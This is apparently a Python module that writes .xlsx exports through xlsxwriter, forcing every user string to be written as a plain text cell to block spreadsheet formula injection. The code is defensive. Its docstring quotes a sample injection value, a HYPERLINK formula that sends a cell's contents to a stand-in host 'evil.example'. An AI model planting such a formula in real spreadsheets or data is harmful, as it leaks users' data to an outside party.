"""The one .xlsx writer: user text is always written as text, never as a formula, link or guessed number.

A project named ``=HYPERLINK("http://evil.example/?leak="&B2,"…")`` must reach Excel as those characters, so
xlsxwriter's string conversions are off and every str goes through ``write_string``. Numbers are written as
numbers, dates with a date format, None as an empty cell.

    book = Workbook()
    book.add_table("项目台账", headers, rows, notes=[…], widths=[…], freeze=(1, 2))
    data = book.close()  # bytes (or pass a path / file object as target)
"""
import datetime
import io
import math
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import ROUND_HALF_UP, Decimal

import xlsxwriter

from actiondesk.core.numbers import rounded

HEADER_STYLE = {"bold": True, "bg_color": "#EEF2F6", "border": 1, "text_wrap": True, "valign": "top"}
NOTE_STYLE = {"italic": True, "font_color": "#666666", "text_wrap": True, "valign": "top"}
DATE_FORMAT = "yyyy-mm-dd"


@dataclass(frozen=True)
class Rounded:
    """A figure written as the page shows it: rounded half up to ``places`` and formatted so (#,##0.00), still a
    number in the sheet. ``Rounded(13.3333, 2)`` → 13.33."""

    value: object
    places: int

    def number(self):
        if self.value is None:
            return None
        value = rounded(self.value, self.places, ROUND_HALF_UP)
        return value if not value.is_finite() else float(value)

    @property
    def number_format(self) -> str:
        return "#,##0" + ("." + "0" * self.places if self.places > 0 else "")


class Workbook:
    """An xlsxwriter workbook with the project's safe options and formats."""

    def __init__(self, target=None, *, constant_memory: bool = False):
        self._buffer = io.BytesIO() if target is None else None
        self.book = xlsxwriter.Workbook(self._buffer if target is None else target, {
            "in_memory": not constant_memory, "constant_memory": constant_memory,
            "strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False,
            "default_date_format": DATE_FORMAT})
        self.header = self.book.add_format(HEADER_STYLE)
        self.note = self.book.add_format(NOTE_STYLE)
        self._dates: dict = {}
        self._figures: dict = {}

    def _date_format(self, fill: str | None):
        if fill not in self._dates:
            self._dates[fill] = self.book.add_format({"num_format": DATE_FORMAT, **({"bg_color": fill} if fill
                                                                                        else {})})
        return self._dates[fill]

    def _figure_format(self, fill: str | None, number_format: str):
        key = (fill, number_format)
        if key not in self._figures:
            self._figures[key] = self.book.add_format({"num_format": number_format,
                                                       **({"bg_color": fill} if fill else {})})
        return self._figures[key]

    def add_table(self, title: str, headers: Sequence[str], rows: Iterable[Sequence] = (), *,
                  notes: Sequence[str] | None = None, widths: Sequence[float] | None = None,
                  freeze: tuple[int, int] | None = None, fills: Iterable[str | None] | None = None):
        """A sheet: bold header row, optional notes row, data rows, widths, frozen panes.

        ``fills`` runs beside ``rows``: a background colour ("#FFCDD2") or None for each row. A ``Rounded`` cell
        is written rounded, with its number format.
        """
        sheet = self.book.add_worksheet(title[:31])
        for col, text in enumerate(headers):
            sheet.write_string(0, col, str(text), self.header)
        start = 1
        if notes is not None:
            for col, text in enumerate(notes):
                write_cell(sheet, 1, col, text, self.note)
            start = 2
        fill_formats = {}
        fill_iter = iter(fills) if fills is not None else None
        for r, row in enumerate(rows, start=start):
            fill = next(fill_iter, None) if fill_iter is not None else None
            fmt = None
            if fill:
                fmt = fill_formats.get(fill) or fill_formats.setdefault(fill, self.book.add_format({"bg_color": fill}))
            for c, value in enumerate(row):
                if isinstance(value, Rounded):
                    write_cell(sheet, r, c, value.number(), self._figure_format(fill, value.number_format))
                else:
                    write_cell(sheet, r, c, value, fmt, self._date_format(fill) if fill else None)
        widths = widths or [max(10, min(30, len(str(h)) * 2)) for h in headers]
        for col, width in enumerate(widths):
            sheet.set_column(col, col, width)
        sheet.freeze_panes(*(freeze if freeze is not None else (start, 0)))
        return sheet

    def close(self) -> bytes:
        self.book.close()
        return self._buffer.getvalue() if self._buffer is not None else b""


def write_cell(sheet, row: int, col: int, value, fmt=None, date_fmt=None) -> None:
    """Write one value by its Python type; str is always a string cell."""
    kind = value.__class__
    if value is None:
        if fmt is not None:
            sheet.write_blank(row, col, None, fmt)
    elif kind is str:
        if value:
            sheet.write_string(row, col, value, fmt)
        elif fmt is not None:
            sheet.write_blank(row, col, None, fmt)
    elif kind is bool:
        sheet.write_boolean(row, col, value, fmt)
    elif kind is float or kind is int or kind is Decimal:
        number = float(value)
        if math.isfinite(number):
            sheet.write_number(row, col, number, fmt)
        else:  # a stored Infinity/NaN must not break the export
            sheet.write_string(row, col, str(value), fmt)
    elif isinstance(value, datetime.datetime):
        sheet.write_datetime(row, col, value.replace(tzinfo=None), date_fmt or fmt)
    elif isinstance(value, datetime.date):
        sheet.write_datetime(row, col, datetime.datetime.combine(value, datetime.time()), date_fmt or fmt)
    elif isinstance(value, int | float | Decimal):
        write_cell(sheet, row, col, float(value), fmt, date_fmt)
    else:  # lazy translations, enums and anything else print as text
        sheet.write_string(row, col, str(value), fmt)


def xlsx_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence], **options) -> bytes:
    """A one-sheet workbook (most exports)."""
    book = Workbook()
    book.add_table(title, headers, rows, **options)
    return book.close()
